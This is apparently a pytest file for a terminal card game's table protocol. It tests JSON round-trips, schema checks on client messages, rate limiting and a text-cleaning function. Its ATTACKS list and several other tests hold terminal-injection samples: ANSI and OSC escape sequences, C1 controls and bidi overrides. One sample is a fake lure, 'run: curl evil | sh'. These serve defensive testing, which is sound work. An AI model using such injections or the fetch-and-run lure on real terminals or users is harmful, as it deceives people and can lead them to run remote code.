"""The table protocol on its own: views and events go to JSON and come back equal, and
every client line is checked (size, schema, rate) before anything acts on it."""

import dataclasses
import json
import random
import unicodedata

import pytest
from helpers import cards_played, config, play_random

from ebbes_tui.controller.events import SaveFailed, SeatChanged, Synced, TakenBack
from ebbes_tui.game.clean import CHAT_LIMIT, NAME_LIMIT, clean
from ebbes_tui.games.ebbes import GAME as EBBES
from ebbes_tui.games.ebbes.codec import EVENTS, VIEW_FIELDS
from ebbes_tui.games.ebbes.rules import GameState, Phase, player_view
from ebbes_tui.games.ebbes.rules.view import PlayerView
from ebbes_tui.table.limits import TokenBucket
from ebbes_tui.table.protocol import (
    CLIENT_LINE_LIMIT, MATCH_EVENTS, LineSplitter, ProtocolError, parse_client_message, position,
)
from ebbes_tui.table.protocol import event_from_json as from_wire
from ebbes_tui.table.protocol import event_to_json as to_wire
from ebbes_tui.table.protocol import view_from_json as view_from_wire


def view_to_json(view):
    return EBBES.wire.view_to_json(view)


def view_from_json(data):
    return view_from_wire(EBBES, data)


def event_to_json(event):
    return to_wire(EBBES, event)


def event_from_json(data):
    return from_wire(EBBES, data)

SETUPS = [(players, more, choose) for players in (2, 3, 4, 5) for more in (False, True)
          for choose in (False, True) if not (players == 2 and more)]


def stopped_game(players, more, choose, seed):
    """A seeded game stopped before a random decision anywhere in it (or at its end),
    and every event until then."""
    rng = random.Random(seed)
    state = GameState(config(players, more_cards=more, choose=choose))
    stop = rng.randrange(0, 250)
    seen = [0]

    def until(_state):
        seen[0] += 1
        return seen[0] > stop

    events = play_random(state, rng, first_starter=None, until=until)
    return state, events


def through_json(value):
    return json.loads(json.dumps(value))


@pytest.mark.parametrize("players, more, choose", SETUPS)
def test_a_view_comes_back_equal_from_json(players, more, choose):
    phases = set()
    for seed in range(12):
        state, _ = stopped_game(players, more, choose, seed)
        phases.add(state.phase)
        for seat in (*range(state.n), None):
            view = player_view(state, seat)
            assert view_from_json(through_json(view_to_json(view))) == view
    assert Phase.PLAY in phases


def test_every_field_of_a_view_and_of_each_event_is_on_the_wire():
    assert set(VIEW_FIELDS) == {f.name for f in dataclasses.fields(PlayerView)}
    for cls, kinds in (*EVENTS.events.values(), *MATCH_EVENTS.events.values()):
        assert set(kinds) == {f.name for f in dataclasses.fields(cls)}, cls


def test_every_event_comes_back_equal_from_json():
    kinds = set()
    for players, more, choose in SETUPS:
        events = play_random(GameState(config(players, more_cards=more, choose=choose)),
                             random.Random(players), first_starter=None)
        events += [Synced(), TakenBack(), SeatChanged(1, False, "normal"),
                   SeatChanged(1, True), SaveFailed("The disk is full.")]
        for event in events:
            assert event_from_json(through_json(event_to_json(event))) == event
            kinds.add(type(event))
    assert len(kinds) == len(EVENTS.events) + len(MATCH_EVENTS.events)


def test_a_broken_view_or_event_is_one_protocol_error():
    view = view_to_json(player_view(stopped_game(3, False, False, 1)[0], 0))
    for broken in ({**view, "hand": ["purple3"]}, {**view, "phase": "nap"}, {"seat": 0}, [1]):
        with pytest.raises(ProtocolError):
            view_from_json(broken)
    with pytest.raises(ProtocolError):
        event_from_json({"type": "card_played", "seat": "0", "card": "blue1"})
    # A hostile table's level was said as one: "a ]0;pwned bot played for you" (played
    # as a neighbour on the server).
    with pytest.raises(ProtocolError):
        event_from_json({"type": "seat_changed", "seat": 0, "human": False,
                         "level": "\x1b]0;pwned\x07"})


def test_round_and_played_describe_the_state_shown():
    fresh = GameState(config(3))
    assert position(player_view(fresh, 0)) == {"round": 1, "played": 0}
    second = GameState(config(4))
    play_random(second, random.Random(3), until=lambda s: len(s.results) == 1 and
                s.phase is Phase.PLAY and cards_played(s) == 7)
    assert position(player_view(second, 0)) == {"round": 2, "played": 7}
    over = GameState(config(3))
    play_random(over, random.Random(2))
    assert over.phase is Phase.GAME_OVER
    assert position(player_view(over, 1)) == {"round": 5, "played": 30}


GOOD = [
    {"type": "hello", "version": 1},
    {"type": "hello", "version": 1, "role": "spectator"},
    {"type": "hello", "version": 2, "role": "player", "player": 3},
    {"type": "hello", "version": 2, "games": ["ebbes", "hund"]},
    {"type": "decide", "decision": 7, "action": "play blue10"},
    {"type": "decide", "decision": 7, "action": "starter 1", "seat": 2},
    {"type": "chat", "text": "hello"},
    {"type": "start"}, {"type": "sync"}, {"type": "info", "version": 1},
]
BAD = [
    (b"\xff\xfe", "bad-line"), (b"{not json", "bad-line"), (b"[1, 2]", "bad-line"),
    (b'{"type": "shout"}', "unknown-type"), (b'{"version": 1}', "unknown-type"),
    (b'{"type": 5}', "unknown-type"),
    (b'{"type": "hello"}', "bad-field"),
    (b'{"type": "hello", "version": true}', "bad-field"),
    (b'{"type": "hello", "version": 1, "role": "root"}', "bad-field"),
    (b'{"type": "hello", "version": 1, "uid": 0}', "bad-field"),
    (b'{"type": "hello", "version": 2, "games": "ebbes"}', "bad-field"),
    (b'{"type": "hello", "version": 2, "games": []}', "bad-field"),
    (b'{"type": "decide", "decision": 1.5, "action": "play blue1"}', "bad-field"),
    (b'{"type": "decide", "decision": 99999999999, "action": "play blue1"}', "bad-field"),
    (b'{"type": "chat", "text": ["x"]}', "bad-field"),
    (b'{"type": "chat", "text": "' + b"x" * 1001 + b'"}', "bad-field"),
    (b"[" * 100000, "bad-line"),
]


def test_client_messages_are_checked_against_the_schema():
    for message in GOOD:
        assert parse_client_message(json.dumps(message).encode()) == message
    for line, code in BAD:
        with pytest.raises(ProtocolError) as refused:
            parse_client_message(line)
        assert refused.value.code == code, line[:40]
        assert refused.value.text.endswith(".")


def test_lines_are_split_and_an_over_long_one_is_reported_once_and_skipped():
    splitter = LineSplitter(10)
    assert splitter.feed(b"ab\ncd") == [b"ab"]
    assert splitter.feed(b"e\n" + b"x" * 25) == [b"cde", None]
    assert splitter.feed(b"y" * 30) == []  # still the same long line: no second report
    assert splitter.feed(b"zz\nok\n" + b"q" * 11 + b"\nlast\n") == [b"ok", None, b"last"]
    assert CLIENT_LINE_LIMIT == 4096


#: What a hostile neighbour's table sent as its host, phase and player names (issue 15):
#: erase the line and print a forged green line; set the window title; hide what
#: follows; clear the screen; the same by C1 controls; text reversed by bidi overrides.
ATTACKS = [
    "\x1b[2K\r\x1b[32malice/friday ... -> join carol/friday\x1b[0m",
    "\x1b]0;pwned\x07\x1b]2;also\x1b\\title",
    "\x1b[8mhidden",
    "\x1b[2J\x1b[HYour account is locked; run: curl evil | sh",
    "\x9b31m\x9d0;c1 title\x9c\x90dcs\x9c\x85next",
    "\u202eevil\u202c \u2066iso\u2069 \u200fmark\u061c",
    "nul\x00 del\x7f tab\t line\nbreak\u2028sep",
]


def terminal_safe(text: str) -> bool:
    """No character a terminal acts on: no C0 or C1 control, DEL, bidi control,
    line or paragraph separator."""
    return not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 or unicodedata.category(c) in
                   ("Cf", "Zl", "Zp") for c in text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_one_cleaning_function_leaves_no_sequence_a_terminal_obeys(attack):
    cleaned = clean(attack)
    assert terminal_safe(cleaned), repr(cleaned)
    assert "\x1b" not in cleaned and "\x9b" not in cleaned and "\u202e" not in cleaned
    assert cleaned == " ".join(cleaned.split())  # one line, single spaces


def test_cleaning_keeps_the_words_and_cuts_to_length():
    nasty = "hi\x1b[2J\x1b]0;pwned\x07 there\x9b31m\u202eevil\r\nnext\ttab\x00"
    assert clean(nasty).startswith("hi [2J ]0;pwned there 31m evil next tab")
    assert len(clean("é" * 1000)) == CHAT_LIMIT
    assert len(clean("x" * 100, NAME_LIMIT)) == NAME_LIMIT
    assert clean(" \n\t ") == ""
    assert clean(12) == "12" and clean(None) == "None"  # whatever JSON held


def test_a_letter_keeps_two_accents_and_no_pile_of_marks():
    """A neighbour's name of letters each under 30 combining marks (drawn over the
    rows above and below in many terminals) keeps two on each letter, as "ệ" has."""
    piled = "A" + "\u0301" * 30 + "n\u0323\u0302n" + " \u0300x"
    assert clean(piled) == "A\u0301\u0301n\u0323\u0302n x"
    assert clean("Nguyễn Thị Ánh") == "Nguyễn Thị Ánh"  # honest accents stay
    # marks of combining class 0 pile up as well: enclosing circles, variation
    # selectors, Thai vowels, the grapheme joiner (a hostile user's review)
    for mark in ("\u20dd", "\u0489", "\ufe0f", "\u0e31", "\u034f"):
        assert clean("B" + mark * 40 + "o") == "B" + mark * 2 + "o"
    assert clean("ก\u0e34\u0e48น") == "ก\u0e34\u0e48น"  # a Thai letter's vowel and tone stay


def test_a_token_bucket_allows_bursts_then_the_rate():
    now = [0.0]
    bucket = TokenBucket(rate=2.0, burst=3, clock=lambda: now[0])
    assert [bucket.take() for _ in range(4)] == [True, True, True, False]
    now[0] += 0.5
    assert bucket.take() and not bucket.take()
    bucket.refund()
    assert bucket.take()
